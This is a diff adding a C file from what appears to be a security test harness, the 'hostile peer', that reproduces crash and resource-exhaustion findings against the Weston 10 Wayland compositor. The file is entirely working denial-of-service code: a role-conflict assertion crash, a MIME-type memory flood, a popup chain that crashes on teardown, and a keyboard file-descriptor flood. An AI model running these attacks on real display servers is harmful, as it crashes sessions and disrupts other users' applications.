@@ -1,0 +1,471 @@
+/*
+ * Attacks on the Wayland semantics weston implements behind the plugin:
+ * type-correct requests in an order or a number weston 10 does not
+ * survive.  Each reproduces one finding and prints what the display did.
+ */
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "hostile.h"
+#include "ivwl-protocols.h"
+
+#define XRGB8888 1u
+#define POPUP_SIZE 32
+
+/* A session with what these attacks bind, and a toplevel or popups. */
+struct sem {
+	struct ivwl_hostile *h;
+	uint32_t k;
+	struct ivwl_hostile_globals g;
+	uint32_t shm, comp, subcomp, wm_base, seat, ddm, primary;
+	uint32_t pool, buffer;		/* one 32x32 buffer for everything */
+	uint32_t configure_object;	/* the xdg_surface we wait on */
+	uint32_t serial;
+	bool configured;
+};
+
+static uint32_t
+new_id(struct sem *s)
+{
+	return s->h->slot[s->k].next_id++;
+}
+
+static void
+on_event(void *data, const struct ivwl_hostile_event *ev)
+{
+	struct sem *s = data;
+	struct ivwl_out out;
+	uint32_t v;
+
+	if (ev->size < 12)
+		return;
+	memcpy(&v, ev->args, 4);
+	if (ev->object == s->configure_object &&
+	    ev->opcode == IVWL_EVT_XDG_SURFACE_CONFIGURE) {
+		s->serial = v;
+		s->configured = true;
+	} else if (ev->object == s->wm_base &&
+		   ev->opcode == IVWL_EVT_XDG_WM_BASE_PING) {
+		ivwl_out_reset(&out);
+		ivwl_out_begin(&out, s->wm_base, IVWL_REQ_XDG_WM_BASE_PONG);
+		ivwl_out_u32(&out, v);
+		ivwl_out_end(&out);
+		ivwl_hostile_send_wayland(s->h, s->k, &out);
+	}
+}
+
+static bool
+live(const struct sem *s)
+{
+	return s->h->slot[s->k].phase == IVWL_HOSTILE_LIVE;
+}
+
+/* Binds every global present it knows of; false without a session. */
+static bool
+sem_start(struct ivwl_hostile *h, uint32_t k, struct sem *s)
+{
+	struct ivwl_out out;
+
+	memset(s, 0, sizeof(*s));
+	s->h = h;
+	s->k = k;
+	if (!ivwl_hostile_session_start(h, k, &s->g, 2000) || !s->g.shm ||
+	    !s->g.compositor || !s->g.wm_base)
+		return false;
+	ivwl_out_reset(&out);
+	s->shm = new_id(s);
+	ivwl_out_bind(&out, s->g.shm, "wl_shm", 1, s->shm);
+	s->comp = new_id(s);
+	ivwl_out_bind(&out, s->g.compositor, "wl_compositor", 4, s->comp);
+	s->wm_base = new_id(s);
+	ivwl_out_bind(&out, s->g.wm_base, "xdg_wm_base", 1, s->wm_base);
+	if (s->g.subcompositor) {
+		s->subcomp = new_id(s);
+		ivwl_out_bind(&out, s->g.subcompositor, "wl_subcompositor", 1,
+			      s->subcomp);
+	}
+	if (s->g.seat) {
+		s->seat = new_id(s);
+		ivwl_out_bind(&out, s->g.seat, "wl_seat", 5, s->seat);
+	}
+	if (s->g.data_device_manager) {
+		s->ddm = new_id(s);
+		ivwl_out_bind(&out, s->g.data_device_manager,
+			      "wl_data_device_manager", 3, s->ddm);
+	}
+	if (s->g.primary_selection) {
+		s->primary = new_id(s);
+		ivwl_out_bind(&out, s->g.primary_selection,
+			      "zwp_primary_selection_device_manager_v1", 1,
+			      s->primary);
+	}
+	return ivwl_hostile_send_wayland(h, k, &out) == 0;
+}
+
+static uint32_t
+sem_surface(struct sem *s, struct ivwl_out *out)
+{
+	uint32_t surface = new_id(s);
+
+	ivwl_out_begin(out, s->comp, IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
+	ivwl_out_u32(out, surface);
+	ivwl_out_end(out);
+	return surface;
+}
+
+static uint32_t
+sem_xdg_surface(struct sem *s, struct ivwl_out *out, uint32_t surface)
+{
+	uint32_t xdg = new_id(s);
+
+	ivwl_out_begin(out, s->wm_base, IVWL_REQ_XDG_WM_BASE_GET_XDG_SURFACE);
+	ivwl_out_u32(out, xdg);
+	ivwl_out_u32(out, surface);
+	ivwl_out_end(out);
+	return xdg;
+}
+
+/* A 32x32 buffer at the start of the heap, made once. */
+static void
+sem_buffer(struct sem *s, struct ivwl_out *out)
+{
+	struct ivwl_fd_desc d = ivwl_out_region_desc(s->h->layout.heap_offset,
+						     IVWL_PAGE_SIZE);
+
+	if (s->buffer)
+		return;
+	s->pool = new_id(s);
+	ivwl_out_begin(out, s->shm, IVWL_REQ_WL_SHM_CREATE_POOL);
+	ivwl_out_u32(out, s->pool);
+	ivwl_out_u32(out, IVWL_PAGE_SIZE);
+	ivwl_out_end(out);
+	ivwl_out_fd(out, &d);
+	s->buffer = new_id(s);
+	ivwl_out_begin(out, s->pool, IVWL_REQ_WL_SHM_POOL_CREATE_BUFFER);
+	ivwl_out_u32(out, s->buffer);
+	ivwl_out_u32(out, 0);
+	ivwl_out_u32(out, POPUP_SIZE);
+	ivwl_out_u32(out, POPUP_SIZE);
+	ivwl_out_u32(out, POPUP_SIZE * 4);
+	ivwl_out_u32(out, XRGB8888);
+	ivwl_out_end(out);
+}
+
+/* Sends out, waits for the configure of xdg, acks it, maps a buffer. */
+static bool
+sem_configure_and_map(struct sem *s, struct ivwl_out *out, uint32_t xdg,
+		      uint32_t surface)
+{
+	int64_t end = ivwl_hostile_now_ms() + 3000;
+
+	ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
+	ivwl_out_end(out);
+	s->configure_object = xdg;
+	s->configured = false;
+	if (ivwl_hostile_send_wayland(s->h, s->k, out) < 0)
+		return false;
+	while (!s->configured && live(s) && ivwl_hostile_now_ms() < end)
+		ivwl_hostile_roundtrip(s->h, s->k, on_event, s, 300);
+	if (!s->configured)
+		return false;
+	ivwl_out_reset(out);
+	ivwl_out_begin(out, xdg, IVWL_REQ_XDG_SURFACE_ACK_CONFIGURE);
+	ivwl_out_u32(out, s->serial);
+	ivwl_out_end(out);
+	sem_buffer(s, out);
+	ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_ATTACH);
+	ivwl_out_u32(out, s->buffer);
+	ivwl_out_u32(out, 0);
+	ivwl_out_u32(out, 0);
+	ivwl_out_end(out);
+	ivwl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
+	ivwl_out_end(out);
+	return ivwl_hostile_send_wayland(s->h, s->k, out) == 0 &&
+	       ivwl_hostile_roundtrip(s->h, s->k, on_event, s, 1000);
+}
+
+/* Waits up to ms for the display to end slot k; true if it did. */
+static bool
+closed_within(struct ivwl_hostile *h, uint32_t k, int ms)
+{
+	int64_t end = ivwl_hostile_now_ms() + ms;
+
+	while (ivwl_hostile_now_ms() < end) {
+		ivwl_hostile_slot_poll(h, k);
+		if (h->slot[k].phase != IVWL_HOSTILE_LIVE)
+			return true;
+		ivwl_hostile_drain_events(h, k, NULL, NULL);
+		usleep(10 * 1000);
+	}
+	return false;
+}
+
+/* A new connection gets its registry: the display still serves us. */
+static const char *
+display_answers(struct ivwl_hostile *h, uint32_t k)
+{
+	struct ivwl_hostile_globals g;
+	bool ok = ivwl_hostile_session_start(h, k, &g, 3000);
+
+	ivwl_hostile_slot_close(h, k);
+	return ok ? "answered" : "did NOT answer";
+}
+
+/* ---- role-subsurface ------------------------------------------------ */
+
+/*
+ * create_surface A and B, xdg_wm_base.get_xdg_surface(A), then
+ * wl_subcompositor.get_subsurface(A, B): weston 10 gives the xdg role
+ * only at get_toplevel, takes A as a subsurface too, and at the close
+ * weston_subsurface_destroy asserts (weston exits).
+ */
+void
+ivwl_hostile_role_subsurface(struct ivwl_hostile *h)
+{
+	struct ivwl_out out;
+	struct sem s;
+	uint32_t a, b, sub;
+	bool refused;
+
+	if (!sem_start(h, 0, &s) || !s.subcomp) {
+		printf("hostile-peer: role-subsurface: no session with "
+		       "wl_subcompositor\n");
+		return;
+	}
+	ivwl_out_reset(&out);
+	a = sem_surface(&s, &out);
+	b = sem_surface(&s, &out);
+	sem_xdg_surface(&s, &out, a);
+	sub = new_id(&s);
+	ivwl_out_begin(&out, s.subcomp, IVWL_REQ_WL_SUBCOMPOSITOR_GET_SUBSURFACE);
+	ivwl_out_u32(&out, sub);
+	ivwl_out_u32(&out, a);
+	ivwl_out_u32(&out, b);
+	ivwl_out_end(&out);
+	ivwl_hostile_send_wayland(h, 0, &out);
+	refused = closed_within(h, 0, 1000);
+	ivwl_hostile_slot_close(h, 0);
+	usleep(300 * 1000);
+	printf("hostile-peer: role-subsurface: the display %s the second role; "
+	       "after the close it %s a new connection\n",
+	       refused ? "refused" : "accepted", display_answers(h, 1));
+}
+
+/* ---- mime-flood ----------------------------------------------------- */
+
+/*
+ * wl_data_source.offer and its primary-selection twin with unique 4 KB
+ * MIME types, no seat or focus needed: weston keeps every string until
+ * the source goes, so it grows by what the VM sends.
+ */
+void
+ivwl_hostile_mime_flood(struct ivwl_hostile *h)
+{
+	static char mime[4000];
+	uint64_t offers = 0, sessions = 0, refused = 0;
+	struct ivwl_out out;
+	struct sem s;
+	uint32_t k = 0, src, n;
+
+	memset(mime, 'x', sizeof(mime) - 1);
+	while (ivwl_hostile_time_left(h)) {
+		k = (k + 1) % h->slots;
+		if (!sem_start(h, k, &s) || !s.ddm)
+			continue;
+		sessions++;
+		src = new_id(&s);
+		ivwl_out_reset(&out);
+		ivwl_out_begin(&out, s.ddm,
+			IVWL_REQ_WL_DATA_DEVICE_MANAGER_CREATE_DATA_SOURCE);
+		ivwl_out_u32(&out, src);
+		ivwl_out_end(&out);
+		ivwl_hostile_send_wayland(h, k, &out);
+		while (live(&s) && ivwl_hostile_time_left(h)) {
+			ivwl_out_reset(&out);
+			for (n = 0; n < 8 &&
+			     ivwl_out_room(&out, sizeof(mime) + 16); n++) {
+				snprintf(mime, 24, "x/%016llx",
+					 (unsigned long long)offers++);
+				mime[strlen(mime)] = 'x';
+				ivwl_out_begin(&out, src,
+					       IVWL_REQ_WL_DATA_SOURCE_OFFER);
+				ivwl_out_string(&out, mime);
+				ivwl_out_end(&out);
+			}
+			if (ivwl_hostile_send_wayland(h, k, &out) < 0)
+				usleep(1000);
+			ivwl_hostile_drain_events(h, k, NULL, NULL);
+			ivwl_hostile_slot_poll(h, k);
+		}
+		if (!live(&s))
+			refused++;
+		ivwl_hostile_slot_close(h, k);
+	}
+	printf("hostile-peer: mime-flood: %llu MIME types of %zu bytes offered "
+	       "in %llu sessions; the display ended %llu of them\n",
+	       (unsigned long long)offers, sizeof(mime) - 1,
+	       (unsigned long long)sessions, (unsigned long long)refused);
+}
+
+/* ---- popup-chain ---------------------------------------------------- */
+
+static uint32_t
+sem_positioner(struct sem *s, struct ivwl_out *out)
+{
+	uint32_t p = new_id(s);
+
+	ivwl_out_begin(out, s->wm_base, IVWL_REQ_XDG_WM_BASE_CREATE_POSITIONER);
+	ivwl_out_u32(out, p);
+	ivwl_out_end(out);
+	ivwl_out_begin(out, p, IVWL_REQ_XDG_POSITIONER_SET_SIZE);
+	ivwl_out_u32(out, POPUP_SIZE);
+	ivwl_out_u32(out, POPUP_SIZE);
+	ivwl_out_end(out);
+	ivwl_out_begin(out, p, IVWL_REQ_XDG_POSITIONER_SET_ANCHOR_RECT);
+	ivwl_out_u32(out, 0);
+	ivwl_out_u32(out, 0);
+	ivwl_out_u32(out, 1);
+	ivwl_out_u32(out, 1);
+	ivwl_out_end(out);
+	return p;
+}
+
+/* One grabbing popup on parent (an xdg_surface); its xdg_surface. */
+static uint32_t
+sem_grabbing_popup(struct sem *s, uint32_t parent, uint32_t positioner)
+{
+	struct ivwl_out out;
+	uint32_t surface, xdg, popup;
+
+	ivwl_out_reset(&out);
+	surface = sem_surface(s, &out);
+	xdg = sem_xdg_surface(s, &out, surface);
+	popup = new_id(s);
+	ivwl_out_begin(&out, xdg, IVWL_REQ_XDG_SURFACE_GET_POPUP);
+	ivwl_out_u32(&out, popup);
+	ivwl_out_u32(&out, parent);
+	ivwl_out_u32(&out, positioner);
+	ivwl_out_end(&out);
+	ivwl_out_begin(&out, popup, IVWL_REQ_XDG_POPUP_GRAB);
+	ivwl_out_u32(&out, s->seat);
+	ivwl_out_u32(&out, 0);
+	ivwl_out_end(&out);
+	return sem_configure_and_map(s, &out, xdg, surface) ? xdg : 0;
+}
+
+/*
+ * A mapped toplevel, then --count nested popups (2 by default), each
+ * with xdg_popup.grab: then the app closes its slot.  libwayland ends
+ * the client's objects in id order, parent popups first, and weston 10
+ * posts "not the topmost popup" through the xdg_wm_base it already
+ * destroyed: a crash.  A count past the plugin's nesting bound makes the
+ * plugin close the connection itself, the same way.
+ */
+static void
+popup_chain(struct ivwl_hostile *h, bool hold)
+{
+	uint32_t want = h->count ? h->count : 2, made = 0, parent, positioner;
+	struct ivwl_out out;
+	uint32_t surface, top;
+	struct sem s;
+	bool ended;
+
+	if (!sem_start(h, 0, &s) || !s.seat) {
+		printf("hostile-peer: popup-chain: no session with a seat\n");
+		return;
+	}
+	ivwl_out_reset(&out);
+	surface = sem_surface(&s, &out);
+	parent = sem_xdg_surface(&s, &out, surface);
+	top = new_id(&s);
+	ivwl_out_begin(&out, parent, IVWL_REQ_XDG_SURFACE_GET_TOPLEVEL);
+	ivwl_out_u32(&out, top);
+	ivwl_out_end(&out);
+	ivwl_out_begin(&out, top, IVWL_REQ_XDG_TOPLEVEL_SET_TITLE);
+	ivwl_out_string(&out, "popup-chain");
+	ivwl_out_end(&out);
+	positioner = sem_positioner(&s, &out);
+	if (!sem_configure_and_map(&s, &out, parent, surface)) {
+		printf("hostile-peer: popup-chain: the toplevel never mapped\n");
+		return;
+	}
+	while (made < want && live(&s) && ivwl_hostile_time_left(h)) {
+		parent = sem_grabbing_popup(&s, parent, positioner);
+		if (!parent)
+			break;
+		made++;
+	}
+	ended = !live(&s);
+	printf("hostile-peer: popup-chain: %u grabbing popups nested; %s\n",
+	       made, ended ? "the display closed the connection" :
+	       hold ? "held until the end" : "the app closes its slot");
+	fflush(stdout);
+	while (hold && live(&s) && ivwl_hostile_time_left(h))
+		ivwl_hostile_roundtrip(h, 0, on_event, &s, 200);
+	if (!ended)
+		ivwl_hostile_slot_close(h, 0);
+	usleep(500 * 1000);
+	printf("hostile-peer: popup-chain: after the close the display %s a "
+	       "new connection\n", display_answers(h, 1));
+}
+
+void
+ivwl_hostile_popup_chain(struct ivwl_hostile *h)
+{
+	popup_chain(h, false);
+}
+
+/* The chain kept on screen until --seconds run out: for a shutdown. */
+void
+ivwl_hostile_popup_hold(struct ivwl_hostile *h)
+{
+	popup_chain(h, true);
+}
+
+/* ---- keyboard-flood ------------------------------------------------- */
+
+/*
+ * Every slot loops on wl_seat.get_keyboard and never reads its events:
+ * each keyboard costs weston a keymap fd until the event is read, so
+ * weston runs out of fds and libwayland kills clients of every VM.
+ */
+void
+ivwl_hostile_keyboard_flood(struct ivwl_hostile *h)
+{
+	uint64_t keyboards = 0, sessions = 0, ended = 0;
+	struct ivwl_out out;
+	struct sem s[IVWL_SLOT_COUNT];
+	uint32_t k;
+
+	memset(s, 0, sizeof(s));
+	while (ivwl_hostile_time_left(h)) {
+		for (k = 0; k < h->slots && ivwl_hostile_time_left(h); k++) {
+			if (!s[k].seat || !live(&s[k])) {
+				if (s[k].seat) {
+					ended++;
+					ivwl_hostile_slot_close(h, k);
+				}
+				if (!sem_start(h, k, &s[k]) || !s[k].seat) {
+					s[k].seat = 0;
+					continue;
+				}
+				sessions++;
+			}
+			ivwl_out_reset(&out);
+			while (ivwl_out_room(&out, 12)) {
+				ivwl_out_begin(&out, s[k].seat,
+					       IVWL_REQ_WL_SEAT_GET_KEYBOARD);
+				ivwl_out_u32(&out, new_id(&s[k]));
+				ivwl_out_end(&out);
+				keyboards++;
+			}
+			ivwl_hostile_send_wayland(h, k, &out);
+			ivwl_hostile_slot_poll(h, k);
+		}
+	}
+	printf("hostile-peer: keyboard-flood: %llu keyboards asked for in %llu "
+	       "sessions; the display ended %llu of them\n",
+	       (unsigned long long)keyboards, (unsigned long long)sessions,
+	       (unsigned long long)ended);
+}
